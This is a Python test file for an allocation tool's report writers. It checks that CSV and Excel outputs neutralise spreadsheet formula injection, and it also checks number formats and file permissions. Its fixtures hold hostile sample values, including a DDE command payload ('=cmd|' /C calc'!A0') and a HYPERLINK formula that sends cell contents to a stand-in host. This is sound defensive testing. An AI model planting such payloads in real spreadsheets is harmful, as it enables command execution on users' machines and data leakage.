"""The files people open: no formula anywhere, readable formats, whole files, the umask.

A market whose ids and names are formula injections (``=cmd|' /C calc'!A0``,
``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab- and CR-led text) is solved and written in every
format; the files are opened with openpyxl and pandas as a commissioner's spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from allocator.core.params import SolveParams
from allocator.core.problem import Problem
from allocator.instance.cells import FORMULA_LEADS, neutralise, restore
from allocator.instance.io import dump_json, load_instance, save_instance
from allocator.instance.schema import Instance
from allocator.report.files import read_tables, write_results
from allocator.report.writers import (
    Sheet,
    column_kind,
    csv_number,
    header_words,
    key_value_sheet,
    write_csv,
    write_workbook,
)
from allocator.solvers import solve

DATA = Path(__file__).resolve().parents[1] / "data"
EVIL = {
    "z1": "=cmd|' /C calc'!A0",
    "p1": '=HYPERLINK("http://x/?"&A1,"click")',
    "n1": "+SUM(1,2)",
    "n2": "-2+3",
    "L1": "@SUM(A1)",
}
EVIL_NAMES = {"providers": "\t=1+1", "zones": "\r=2+2"}


def evil_market() -> Instance:
    """The small market with its ids and names replaced by formula injections."""
    text = (DATA / "small_market.json").read_text()
    for old, new in EVIL.items():
        text = text.replace(json.dumps(old), json.dumps(new))
    doc = json.loads(text)
    doc["providers"][1]["name"] = EVIL_NAMES["providers"]
    doc["zones"][1]["name"] = EVIL_NAMES["zones"]
    return Instance.model_validate(doc)


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> tuple[Path, dict[str, pd.DataFrame]]:
    inst = evil_market()
    problem = Problem.from_instance(inst)
    result = solve(problem, SolveParams(solver="highs", time_limit=30))
    assert result.status.has_solution
    out = tmp_path_factory.mktemp("evil") / "out"
    old = os.umask(0o022)
    try:
        write_results(out, problem, result)
    finally:
        os.umask(old)
    from allocator.report.tables import build_tables

    return out, build_tables(problem, result.solution)


def _text_cells(path: Path):
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet, cell


def test_no_formula_in_the_result_workbook(written):
    out, _ = written
    seen_evil = 0
    for sheet, cell in _text_cells(out / "result.xlsx"):
        assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_LEADS):
            assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
            seen_evil += 1
    assert seen_evil >= 5  # the ids did reach the workbook, as inert text


def test_workbook_values_read_back_unchanged_with_pandas(written):
    out, tables = written
    back = read_tables(out / "result.xlsx")
    assert set(back["assignments"]["provider"]) <= set(tables["assignments"]["provider"])
    assert EVIL["p1"] in set(back["providers"]["provider"])
    sheets = pd.read_excel(out / "result.xlsx", sheet_name=None)
    assert EVIL["n1"] in set(sheets["assignments"]["Need"]) | set(sheets["unmet"]["Need"])


def test_workbook_formats(written):
    out, _ = written
    book = openpyxl.load_workbook(out / "result.xlsx")
    assert book.sheetnames[0] == "Summary"
    summary = {r[0].value: r[1] for r in book["Summary"].iter_rows(min_row=2) if r[0].value}
    assert summary["Status"].value == "optimal"
    assert "£" in summary["Objective (GBP a week)"].number_format
    assert "{" not in "".join(str(c.value) for c in book["Summary"]["B"])  # no JSON blob
    sheet = book["assignments"]
    header = [c.value for c in sheet[1]]
    assert "Need" in header and "Framework cost" in header and "framework_cost" not in header
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    cost = sheet.cell(2, header.index("Framework cost") + 1)
    assert "£" in cost.number_format
    providers = book["providers"]
    head = [c.value for c in providers[1]]
    assert providers.cell(2, head.index("Utilisation") + 1).number_format == "0.0%"
    assert providers.cell(2, head.index("Needs served") + 1).number_format == "#,##0"
    widths = [providers.column_dimensions[c].width for c in "ABCDEF"]
    assert all(w and w >= 9 for w in widths)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_formula_and_no_float_dust_in_csv(written):
    out, tables = written
    for path in out.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.open(newline="").read())))
        for row in rows:
            for cell in row:
                # a negative number is written as a number (a spreadsheet reads it as one)
                negative = cell.startswith("-") and _is_number(cell)
                assert negative or not cell.startswith(FORMULA_LEADS), (path.name, cell)
                try:
                    value = float(cell)
                except ValueError:
                    continue
                assert len(cell) <= 20 and "99999999" not in cell and "00000001" not in cell
                assert float(f"{value:.12g}") == value
    back = read_tables(out)
    pd.testing.assert_frame_equal(back["assignments"][["need", "provider", "zone"]],
                                  tables["assignments"][["need", "provider", "zone"]])


def test_result_files_honour_the_umask(written):
    out, _ = written
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o644, path.name
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".")]


def test_csv_numbers_rounded():
    assert csv_number(0.1 + 0.2) == 0.3
    assert csv_number(0.9199999999999999) == 0.92
    assert csv_number(1e-15) == 0.0 and str(csv_number(-1e-15)) == "0.0"
    assert csv_number(123456.789) == 123456.789
    assert csv_number(-2.5) == -2.5  # a negative number stays a number


def test_neutralise_text_only_and_reversibly():
    for text in ["=1+2", "+1", "-x", "@A1", "\t=1", "\r=1", "'=x", "''", "Leeds", "", "'",
                 "'abc", "-", "="]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(FORMULA_LEADS)
    assert neutralise("Leeds") == "Leeds" and neutralise("=1") == "'=1"


def test_negative_numbers_stay_numbers(tmp_path):
    df = pd.DataFrame({"provider": ["-p", "q"], "saving": [-12.5, 3.0]})
    write_csv(tmp_path / "t.csv", df)
    assert (tmp_path / "t.csv").read_text().splitlines() == ["provider,saving", "'-p,-12.5",
                                                              "q,3"]
    write_workbook(tmp_path / "t.xlsx", [Sheet("t", df)])
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet["A2"].value == "-p" and sheet["A2"].quotePrefix


def test_column_kinds_and_words():
    assert column_kind("framework_cost", pd.Series([1.0])) == "money"
    assert column_kind("utilisation", pd.Series([0.5])) == "percent"
    assert column_kind("largest_share", pd.Series([0.5])) == "percent"
    assert column_kind("unmet_people", pd.Series([1.0])) == "count"
    assert column_kind("provider", pd.Series(["=x"])) == "text"
    assert column_kind("moved", pd.Series([True])) == "flag"
    assert header_words("need_zone") == "Need's own zone"
    assert header_words("block_quantity") == "Block quantity"


def test_summary_sheet_kinds(tmp_path):
    write_workbook(tmp_path / "s.xlsx", [key_value_sheet("Summary", [
        ("Objective", 12.5, "money"), ("Gap", 0.012, "percent"), ("Needs", 3), ("Note", "=x")])])
    sheet = openpyxl.load_workbook(tmp_path / "s.xlsx")["Summary"]
    assert sheet["B2"].number_format.startswith('"£"')
    assert sheet["B3"].number_format == "0.0%"
    assert sheet["B5"].data_type == "s" and sheet["B5"].quotePrefix


def test_convert_neutralises_csv_and_reads_it_back(tmp_path):
    inst = evil_market()
    save_instance(inst, tmp_path / "tables")
    for path in (tmp_path / "tables").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.open(newline="").read())):
            assert not any(c.startswith(FORMULA_LEADS) for c in row), (path.name, row)
    assert dump_json(load_instance(tmp_path / "tables")) == dump_json(inst)
    save_instance(inst, tmp_path / "m.xlsx")
    for sheet, cell in _text_cells(tmp_path / "m.xlsx"):
        assert cell.data_type != "f", (sheet.title, cell.coordinate)
    # XML turns a bare CR into LF (openpyxl writes no _x000D_ escape): the one difference
    assert dump_json(load_instance(tmp_path / "m.xlsx")) == dump_json(inst).replace("\\r", "\\n")


def test_morning_workbook_has_no_formula(tmp_path):
    from allocator.nightly.morning import MorningReport

    report = MorningReport(
        run_id=3, title="Morning report - =evil - run 3",
        summary=[("run", 3), ("objective (GBP a week)", 1234.5), ("gap", "0.0100%")],
        tables={"New referrals": (["need", "provider", "weekly cost", "why"],
                                  [["=HYPERLINK(1)", "@x", 250.0, "-because"]]),
                "Providers": (["provider", "utilisation", "beds"], [["+p", 0.69, 2]])})
    xlsx, page = report.write(tmp_path)
    for sheet, cell in _text_cells(xlsx):
        assert cell.data_type != "f", (sheet.title, cell.coordinate)
    book = openpyxl.load_workbook(xlsx)
    assert book["New referrals"]["C2"].number_format.startswith('"£"')
    assert book["Providers"]["B2"].number_format == "0.0%"
    assert book["New referrals"]["A2"].quotePrefix
    text = page.read_text()
    assert "69%" in text and "£250.00" in text and "<script" not in text
    assert stat.S_IMODE(xlsx.stat().st_mode) & 0o044  # readable by others under umask 022


def test_every_writer_goes_through_the_layer():
    """No module writes CSV or XLSX on its own (grep, as the brief asks)."""
    root = Path(__file__).resolve().parents[2] / "allocator"
    allowed = {"report/writers.py", "instance/tabular.py", "instance/template.py"}
    offenders = []
    for path in root.rglob("*.py"):
        rel = str(path.relative_to(root))
        if rel in allowed:
            continue
        text = path.read_text()
        for needle in (".to_csv(", ".to_excel(", "csv.writer(", "csv.DictWriter(",
                       "Workbook(", "ExcelWriter("):
            if needle in text:
                offenders.append(f"{rel}: {needle}")
    assert offenders == []


def test_downloads_without_a_file():
    from allocator.report.writers import table_to_csv, workbook_bytes

    df = pd.DataFrame({"provider": ["=evil()"], "cost": [0.1 + 0.2]})
    assert table_to_csv(df) == "provider,cost\r\n'=evil(),0.3\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"t": df})))["t"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].number_format.startswith('"£"')
